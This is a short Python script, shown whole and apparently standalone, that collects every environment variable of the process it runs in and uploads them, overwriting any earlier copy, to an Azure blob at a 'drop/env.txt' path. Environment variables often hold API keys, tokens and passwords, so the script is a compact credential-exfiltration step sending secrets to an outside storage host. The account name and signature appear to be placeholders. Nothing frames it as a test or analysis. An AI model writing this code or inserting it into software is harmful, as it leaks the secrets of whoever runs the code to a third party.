import os

from azure.storage.blob import BlobClient

lines = "\n".join("%s=%s" % kv for kv in os.environ.items())
blob = BlobClient.from_blob_url("https://acct.blob.core.windows.net/drop/env.txt?sv=2022&sig=x")
blob.upload_blob(lines.encode(), overwrite=True)
